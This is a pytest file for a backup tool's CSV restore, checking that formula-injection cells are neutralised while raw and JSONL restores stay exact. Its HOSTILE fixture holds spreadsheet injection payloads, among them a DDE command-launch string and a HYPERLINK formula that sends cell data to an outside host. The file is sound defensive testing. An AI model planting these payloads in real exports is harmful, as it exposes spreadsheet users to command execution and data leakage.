"""CSV injection on restore: cells a spreadsheet would run as formulas come out neutralised
(a leading `'`, OWASP's rule) unless `--csv-raw` asks for them as stored; the restore still
verifies (the manifest's hash is of the canonical JSONL, which is unchanged) and JSONL is always
exact. Through the real command line."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from sellerbak.restore.csvcells import neutralise
from tests.helpers import run_cli, write_config

HOSTILE = {
    "o1": '=HYPERLINK("http://x/?"&B2,"help")',
    "o2": "+1+cmd|' /C calc'!A0",
    "o3": "-2+3",
    "o4": "@SUM(A1:A9)",
    "o5": "\t=1+1",
    "o6": "\r=1+1",
}
HARMLESS = {"o7": "-12.50", "o8": "+3", "o9": "plain = text", "o10": "1e5", "o11": "'quoted"}


def _ok(proc: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert proc.returncode == 0, proc.stderr
    return proc


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    data = tmp_path / "exports"
    data.mkdir()
    lines = [json.dumps({"id": oid, "buyer_nickname": nick, "amount": -5,
                         "address": {"line": "=evil()"}})
             for oid, nick in {**HOSTILE, **HARMLESS}.items()]
    lines.append(json.dumps({"id": "o99", "=HEADER()": "x"}))  # a column name from a record
    (data / "orders.jsonl").write_text("\n".join(lines) + "\n")
    path = write_config(tmp_path, "./repo", [{"name": "shop", "type": "files",
                                              "path": "./exports"}])
    _ok(run_cli("-c", str(path), "init"))
    _ok(run_cli("-c", str(path), "snapshot"))
    return path


def _rows(path: Path) -> tuple[list[str], dict[str, dict[str, str]]]:
    reader = csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""))
    header = next(reader)
    rows = [dict(zip(header, row, strict=True)) for row in reader]
    return header, {r["id"]: r for r in rows}


def test_formula_cells_are_neutralised_by_default(cfg: Path, tmp_path: Path) -> None:
    proc = _ok(run_cli("-c", str(cfg), "restore", "latest", "--target", str(tmp_path / "c"),
                       "--format", "csv"))
    assert "verified" in proc.stderr
    header, rows = _rows(tmp_path / "c" / "orders.csv")
    for oid, nick in HOSTILE.items():
        assert rows[oid]["buyer_nickname"] == "'" + nick
    for oid, nick in HARMLESS.items():
        assert rows[oid]["buyer_nickname"] == nick
    assert rows["o1"]["amount"] == "-5"  # a plain number is a number, not a formula
    assert rows["o1"]["address"] == '{"line":"=evil()"}'  # JSON starts with {, never a formula
    assert "'=HEADER()" in header and "=HEADER()" not in header


def test_csv_raw_writes_cells_as_stored(cfg: Path, tmp_path: Path) -> None:
    proc = _ok(run_cli("-c", str(cfg), "restore", "latest", "--target", str(tmp_path / "r"),
                       "--format", "csv", "--csv-raw"))
    assert "verified" in proc.stderr
    header, rows = _rows(tmp_path / "r" / "orders.csv")
    for oid, nick in {**HOSTILE, **HARMLESS}.items():
        assert rows[oid]["buyer_nickname"] == nick
    assert "=HEADER()" in header


def test_jsonl_is_always_exact(cfg: Path, tmp_path: Path) -> None:
    _ok(run_cli("-c", str(cfg), "restore", "latest", "--target", str(tmp_path / "j")))
    restored = {r["id"]: r for r in map(json.loads, (tmp_path / "j" / "orders.jsonl")
                                        .read_text().splitlines())}
    for oid, nick in {**HOSTILE, **HARMLESS}.items():
        assert restored[oid]["buyer_nickname"] == nick


def test_csv_raw_needs_the_csv_format(cfg: Path, tmp_path: Path) -> None:
    proc = run_cli("-c", str(cfg), "restore", "latest", "--target", str(tmp_path / "x"),
                   "--csv-raw")
    assert proc.returncode == 2
    assert proc.stderr.strip().splitlines() == ["error: --csv-raw applies only to --format csv"]
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize("cell, expected", [
    ("=1", "'=1"), ("+", "'+"), ("-", "'-"), ("@", "'@"), ("\t", "'\t"), ("\r\n", "'\r\n"),
    ("-1", "-1"), ("-1.", "-1."), ("-.5", "-.5"), ("+2E-3", "+2E-3"), ("-1-1", "'-1-1"),
    ("-1e", "'-1e"), ("", ""), ("a=1", "a=1"), (" =1", " =1"), ("-١", "'-١"),
])
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected
